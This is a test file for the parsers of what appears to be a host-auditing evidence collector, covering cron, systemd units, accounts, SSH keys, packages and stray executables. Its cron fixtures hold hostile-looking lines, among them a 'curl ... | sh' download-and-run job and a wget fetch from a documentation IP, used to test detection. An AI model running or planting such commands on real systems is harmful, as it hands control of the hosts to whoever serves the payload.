import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { contentOf } from '../../core/artifact-content.js';
import type { Artifact, Bundle } from '../../core/evidence.js';
import type { Fact, FactSpec } from '../../core/fact.js';
import { engine } from '../../facts/containers.js';
import {
  accounts,
  authorizedKeys,
  backportedFixes,
  collectorSelf,
  hostIdentity,
  hostPackages,
  localhostAddresses,
  packageDeviations,
  pendingUpdates,
  preloadedLibraries,
  scheduledCommands,
  secretFiles,
  sshConfig,
  strayExecutables,
  units,
} from '../../facts/host.js';
import { factStore } from '../fact-store.js';
import { parsers } from '../index.js';

const at = new Date('2026-11-20T12:00:00Z');

function artifact(id: string, text: string, change: Partial<Artifact> = {}): Artifact {
  return {
    id,
    subject: 'host',
    order: 0,
    path: `artifacts/${id}`,
    source: null,
    filtered: false,
    capturedAt: at,
    status: 'ok',
    detail: null,
    ...contentOf(text),
    ...change,
  };
}

function absent(id: string): Artifact {
  return artifact(id, '', { status: 'absent' });
}

function read<T>(spec: FactSpec<T>, ...artifacts: readonly Artifact[]): Fact<T> {
  const bundle: Bundle = {
    header: {
      format: 'candor-evidence/1',
      capturedAt: at,
      collector: { name: 'test', version: '0', mode: 'manual' },
      host: { name: 'web-1', cpus: null, memoryBytes: null, timezone: null },
      window: { since: null },
      privileges: { uid: 0 },
    },
    artifacts,
    warnings: [],
  };
  return factStore(bundle, parsers)(spec);
}

function knownOf<T>(fact: Fact<T>): T {
  if (fact.status === 'unknown') throw new Error(`unknown: ${fact.detail}`);
  return fact.value;
}

const processList = artifact('host.processes', '    PID    PPID USER  COMMAND\n      1       0 root  /sbin/init\n', {
  source: { command: ['ps', '-eo', 'pid,ppid,user,args'], exitCode: 0 },
});

describe('what was looked for and is not there', () => {
  it.each([
    ['ld.so.preload', preloadedLibraries, 'host.ld-preload'],
    ['keys', authorizedKeys, 'ssh.authorized-keys'],
    ['cron', scheduledCommands, 'host.cron'],
    ['units', units, 'host.systemd-units'],
  ] as const)('%s: a known empty list', (_name, spec, id) => {
    const fact = read<readonly unknown[]>(spec, absent(id));
    expect(fact).toMatchObject({ status: 'known', complete: true, value: [], evidence: [{ artifact: id }] });
  });

  it.each(['denied', 'not-collected', 'timeout'] as const)('a list that is %s is unknown', (status) => {
    expect(read(authorizedKeys, artifact('ssh.authorized-keys', '', { status }))).toMatchObject({
      status: 'unknown',
      reason: status,
    });
  });

  it('no SSH server: no configuration, and no sshd in a complete list', () => {
    expect(read(sshConfig, absent('ssh.config'), processList)).toMatchObject({ status: 'known', value: null });
    expect(read(sshConfig, absent('ssh.config')).status).toBe('unknown');
    const socket = artifact('host.sockets', 'tcp LISTEN 0 4096 0.0.0.0:22 0.0.0.0:* users:(("systemd",pid=1,fd=90))\n');
    expect(read(sshConfig, absent('ssh.config'), processList, socket).status).toBe('unknown');
  });

  it('no engine: not there, and none in a complete list', () => {
    expect(read(engine, absent('docker.version'), processList)).toMatchObject({ status: 'known', value: null });
    expect(read(engine, absent('docker.version')).status).toBe('unknown');
  });
});

describe('schedules', () => {
  const cron = [
    '==> /etc/crontab <==',
    'SHELL=/bin/sh',
    '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
    '',
    '==> /etc/anacrontab <==',
    '1 5 cron.daily run-parts --report /etc/cron.daily',
    '',
    '==> /etc/cron.daily/backup <==',
    '#!/bin/sh',
    'curl -fsSL http://203.0.113.9/a | sh',
    '',
    '==> /var/spool/cron/crontabs/www-data <==',
    '@reboot /tmp/.x/upd',
    '',
  ].join('\n');
  const owners = artifact('host.package-owners', '{"path":"/etc/crontab","packageOwned":true,"packageName":"cron"}\n');

  it('reads tables, anacrontab and scripts, with owners and lines', () => {
    const jobs = knownOf(read(scheduledCommands, artifact('host.cron', cron), owners));
    expect(jobs.map(({ kind, file, user, packageOwned, ref }) => [kind, file, user, packageOwned, ref.line])).toEqual([
      ['cron', '/etc/crontab', 'root', true, 3],
      ['cron', '/var/spool/cron/crontabs/www-data', 'www-data', null, 13],
      ['anacron', '/etc/anacrontab', 'root', null, 6],
      ['cron-directory', '/etc/cron.daily/backup', 'root', null, 10],
    ]);
    expect(jobs[3]?.command).toBe('curl -fsSL http://203.0.113.9/a | sh');
  });

  it('is whole without a warning, partial when cut', () => {
    expect(read(scheduledCommands, artifact('host.cron', cron))).toMatchObject({ complete: true });
    expect(read(scheduledCommands, artifact('host.cron', cron, { filtered: true }))).toMatchObject({ complete: false });
  });

  it('keeps those inside containers apart', () => {
    const inside = artifact('container.cron', '* * * * * wget -q -O- http://203.0.113.9/a\n', {
      subject: 'container:app',
    });
    const jobs = knownOf(read(scheduledCommands, artifact('host.cron', ''), inside));
    expect(jobs.map(({ subject, packageOwned }) => [subject, packageOwned])).toEqual([['container:app', null]]);
  });

  it('reads units and drop-ins', () => {
    const text = [
      '==> /etc/systemd/system/site.service <==',
      '[Unit]',
      'Description=x',
      '[Service]',
      'User=deploy',
      'ExecStart=/usr/local/bin/site',
      '',
      '==> /etc/systemd/system/nginx.service.d/limits.conf <==',
      '[Service]',
      'LimitNOFILE=65536',
    ].join('\n');
    const found = knownOf(read(units, artifact('host.systemd-units', text)));
    expect(found.map(({ name, execStart, user, packageOwned }) => [name, execStart, user, packageOwned])).toEqual([
      ['site.service', ['/usr/local/bin/site'], 'deploy', null],
      ['nginx.service', [], null, null],
    ]);
  });
});

describe('accounts and keys', () => {
  const users = artifact(
    'host.users',
    '==> /etc/passwd <==\nroot:x:0:0:root:/root:/bin/bash\nyou:x:1000:1000::/srv/you:/bin/sh\n\n==> /etc/group <==\nroot:x:0:\ndocker:x:999:you\nyou:x:1000:\n\n==> /etc/shadow <==\nroot:!:1:0:99999:7:::\nyou::1:0:99999:7:::\n',
  );
  it('joins groups and the state of the password', () => {
    expect(knownOf(read(accounts, users)).map(({ name, password, groups }) => [name, password, groups])).toEqual([
      ['root', 'locked', ['root']],
      ['you', 'empty', ['docker', 'you']],
    ]);
  });
  it('names the user of a key by the home folder', () => {
    const key = `ssh-ed25519 ${Buffer.alloc(51, 7).toString('base64')} you@laptop`;
    const keys = artifact('ssh.authorized-keys', `==> /srv/you/.ssh/authorized_keys <==\n${key}\n`);
    const [found] = knownOf(read(authorizedKeys, keys, users));
    expect([found?.user, found?.comment, found?.fingerprint.startsWith('SHA256:')]).toEqual([
      'you',
      'you@laptop',
      true,
    ]);
  });
  it('keeps the first value of a keyword of sshd', () => {
    const fact = knownOf(read(sshConfig, artifact('ssh.config', 'port 22\npermitrootlogin no\nport 2222\n')));
    expect([...(fact?.settings ?? [])]).toEqual([
      ['port', '22'],
      ['permitrootlogin', 'no'],
    ]);
  });
});

describe('the machine and its packages', () => {
  it('identity', () => {
    const fact = read(
      hostIdentity,
      artifact('host.os-release', 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n'),
      artifact('host.uname', 'Linux web-1 6.1.0-40-amd64 #1 SMP x86_64 GNU/Linux\n'),
      artifact('host.cpu', '4\n'),
    );
    expect(fact).toMatchObject({
      complete: true,
      value: { osId: 'debian', osVersionId: '12', kernel: '6.1.0-40-amd64', cpus: 4, load1: null },
    });
    expect(read(hostIdentity, artifact('host.uname', '6.1.0\n')).status).toBe('unknown');
  });
  it('packages, deviations, updates, fixes', () => {
    expect(knownOf(read(hostPackages, artifact('host.packages', 'nginx\t1.22.1-9+deb12u3\n')))).toMatchObject([
      { name: 'nginx', version: '1.22.1-9+deb12u3' },
    ]);
    expect(
      knownOf(read(packageDeviations, artifact('host.package-verify', '??5??????   /usr/bin/ssh\n'))),
    ).toMatchObject([{ path: '/usr/bin/ssh', checksumFailed: true, config: false }]);
    expect(knownOf(read(packageDeviations, artifact('host.package-verify', '')))).toEqual([]);
    const apt =
      '# package lists updated at 2026-11-20T06:00:00.000Z\nReading package lists...\nInst openssl [3.0.1] (3.0.2 Debian-Security:12/stable-security [amd64])\nInst vim [1] (2 Debian:12/stable [amd64])\n';
    expect(knownOf(read(pendingUpdates, artifact('host.pending-updates', apt)))).toMatchObject({
      listsUpdatedAt: new Date('2026-11-20T06:00:00Z'),
      security: [{ name: 'openssl', from: '3.0.1', to: '3.0.2' }],
    });
    expect(read(pendingUpdates, artifact('host.pending-updates', '')).status).toBe('unknown');
    const log =
      '==> /usr/share/doc/docker.io/changelog.Debian.gz <==\ndocker.io (28.5.2+1) unstable; urgency=high\n  * Fix CVE-2025-31133.\n';
    expect(knownOf(read(backportedFixes, artifact('host.package-changelogs', log)))).toMatchObject([
      { package: 'docker.io', cve: 'CVE-2025-31133', version: '28.5.2+1', ref: { line: 2 } },
    ]);
  });
});

describe('files, names, the collector', () => {
  it('tells secrets from programs', () => {
    const text = [
      '{"kind":"secret","path":"/srv/site/.env","mode":"0644","uid":1000,"othersCanRead":false}',
      '{"kind":"stray","path":"/tmp/x","mode":"0755","sizeBytes":9,"magic":"elf","packageOwned":false}',
      '{"kind":"running","path":"/usr/local/bin/node","magic":"elf"}',
      '{"kind":"running","path":"/dev/shm/a","magic":"elf"}',
    ].join('\n');
    expect(knownOf(read(secretFiles, artifact('host.files', text)))).toMatchObject([
      { path: '/srv/site/.env', mode: 0o644, othersCanRead: false },
    ]);
    expect(knownOf(read(strayExecutables, artifact('host.files', text))).map(({ path }) => path)).toEqual([
      '/tmp/x',
      '/dev/shm/a',
    ]);
  });
  it('prefers the answer of getent', () => {
    const text =
      '127.0.0.1 localhost\n::1 localhost ip6-localhost\n::1             STREAM localhost\n::1             DGRAM\n';
    expect(knownOf(read(localhostAddresses, artifact('host.resolver', text)))).toEqual(['::1']);
    expect(knownOf(read(localhostAddresses, artifact('host.resolver', '127.0.0.1 localhost\n')))).toEqual([
      '127.0.0.1',
    ]);
    expect(read(localhostAddresses, artifact('host.resolver', '10.0.0.1 web-1\n'))).toMatchObject({ complete: false });
  });
  it("reads the collector's own report", () => {
    const text =
      '{"uid":0,"controls":[{"name":"own-pid","seen":true,"detail":"pid 9"},{"name":1}],"containersByEngine":2,"containersByCgroup":2,"durationMs":1800}';
    expect(knownOf(read(collectorSelf, artifact('collector.self', text)))).toEqual({
      uid: 0,
      controls: [{ name: 'own-pid', seen: true, detail: 'pid 9' }],
      containersByEngine: 2,
      containersByCgroup: 2,
      durationMs: 1800,
    });
  });
  it('the engine is whole with version, info and an answer on daemon.json', () => {
    const version = artifact(
      'docker.version',
      '{"Version":"29.1.2","ApiVersion":"1.52","Components":[{"Name":"containerd","Version":"v2.2.0"},{"Name":"runc","Version":"1.3.4"}]}',
    );
    const info = artifact(
      'docker.info',
      '{"ServerVersion":"29.1.2","Driver":"overlay2","SecurityOptions":["name=rootless"],"ContainersRunning":3}',
    );
    expect(read(engine, version, info, absent('docker.daemon-json'))).toMatchObject({
      complete: true,
      value: {
        engineVersion: '29.1.2',
        containerdVersion: '2.2.0',
        runcVersion: '1.3.4',
        rootless: true,
        runningContainers: 3,
        daemonJson: null,
      },
    });
    expect(read(engine, version, info)).toMatchObject({ status: 'known', complete: false });
  });
});

describe('hostile texts', () => {
  const ids = [
    'host.cron',
    'host.systemd-units',
    'host.users',
    'ssh.authorized-keys',
    'host.files',
    'collector.self',
    'host.package-changelogs',
    'host.package-owners',
    'docker.version',
    'docker.info',
    'docker.daemon-json',
    'host.resolver',
  ];
  const specs: readonly FactSpec<unknown>[] = [
    scheduledCommands,
    units,
    accounts,
    authorizedKeys,
    secretFiles,
    strayExecutables,
    collectorSelf,
    backportedFixes,
    engine,
    localhostAddresses,
  ];
  it('no parser fails on anything', () => {
    const text = fc.oneof(fc.string({ maxLength: 400 }), fc.json({ maxDepth: 3 }));
    fc.assert(
      fc.property(fc.constantFrom(...ids), text, (id, content) => {
        for (const spec of specs) {
          const fact = read(spec, artifact(id, content));
          expect(fact.status === 'unknown' ? fact.detail : '').not.toMatch(/parser failed/);
        }
      }),
      { numRuns: 150 },
    );
  });
});
